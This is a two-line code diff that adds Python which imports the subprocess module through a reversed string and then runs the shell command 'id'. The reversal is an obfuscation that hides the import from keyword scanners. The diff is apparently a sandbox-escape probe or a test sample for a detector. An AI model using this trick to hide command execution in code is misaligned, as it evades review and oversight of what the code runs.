@@ -1,0 +1,2 @@
+m = __import__("".join(reversed("ssecorpbus")))
+m.run(["id"])
